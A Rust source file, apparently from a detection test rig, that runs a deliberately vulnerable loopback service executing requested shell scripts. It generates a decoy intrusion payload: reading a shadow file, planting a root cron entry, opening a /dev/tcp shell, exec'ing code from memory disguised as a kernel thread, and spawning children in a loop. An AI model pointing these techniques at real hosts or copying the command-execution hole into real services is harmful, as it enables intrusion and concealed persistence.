//! A harmless intruder: what it does looks like an intrusion and touches nothing but the demo's own directory.
//!
//! - The service listens on loopback and lets a request run a shell, as a vulnerable one would.
//! - The payload reads a decoy secret, writes a decoy cron file, connects a shell to loopback, runs a
//!   program from memory and keeps starting children. Each loop has an end.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};

use rustix::fs::{MemfdFlags, memfd_create};

use crate::failure::Failure;
use crate::rig::write_file;

/// The attacked service. Answers `GET /run/PATH` by running the shell script at PATH, and everything else
/// with its greeting.
pub fn web_service(port_file: &Path) -> Result<(), Failure> {
    let listen = |source| Failure::Run {
        what: "the decoy web service".to_owned(),
        source,
    };
    let listener = TcpListener::bind("127.0.0.1:0").map_err(listen)?;
    let port = listener.local_addr().map_err(listen)?.port();
    write_file(port_file, port.to_string())?;
    for connection in listener.incoming() {
        answer(connection.map_err(listen)?).map_err(listen)?;
    }
    Ok(())
}

fn answer(mut connection: TcpStream) -> std::io::Result<()> {
    let mut request = [0; 1024];
    let length = connection.read(&mut request)?;
    let request = String::from_utf8_lossy(request.get(..length).unwrap_or_default()).into_owned();
    let path = request.split_whitespace().nth(1).unwrap_or("/");
    if let Some(script) = path.strip_prefix("/run") {
        let quiet = Stdio::null;
        Command::new("/bin/sh")
            .arg(script)
            .stdin(quiet())
            .stdout(quiet())
            .spawn()?;
    }
    connection.write_all(b"HTTP/1.0 200 OK\r\n\r\nhello\n")
}

/// Copies `program` into memory and becomes it, under a name that hides among kernel threads.
pub fn from_memory(program: &Path) -> Result<(), Failure> {
    let code = fs::read(program).map_err(Failure::file(program))?;
    let run = |source| Failure::Run {
        what: "a program from memory".to_owned(),
        source,
    };
    let memory = memfd_create("stage2", MemfdFlags::empty()).map_err(|errno| run(errno.into()))?;
    let path = format!("/proc/self/fd/{}", memory.as_raw_fd());
    fs::write(&path, code).map_err(Failure::file(&path))?;
    Err(run(Command::new(&path)
        .arg0("[kworker/u4:2]")
        .arg("60")
        .exec()))
}

/// What the request makes the service run. `host` is the demo's own make-believe host directory.
pub fn payload(host: &Path, second_stage: &Path, listener_port: u16) -> String {
    let host = host.display();
    let second_stage = second_stage.display();
    format!(
        r"# The demo's harmless payload. Everything stays below {host}.
cat {host}/etc/shadow > /dev/null
echo '* * * * * root {host}/tmp/updater' > {host}/etc/cron.d/updater
{second_stage} from-memory /bin/sleep &
bash -c 'exec 3<>/dev/tcp/127.0.0.1/{listener_port}; read -r -t 60 line <&3' &
respawn() {{
    count=0
    while [ $count -lt 300 ]; do
        count=$((count + 1))
        sleep 0.5 &
        sleep 0.2
    done
}}
respawn &
respawn &
wait
"
    )
}
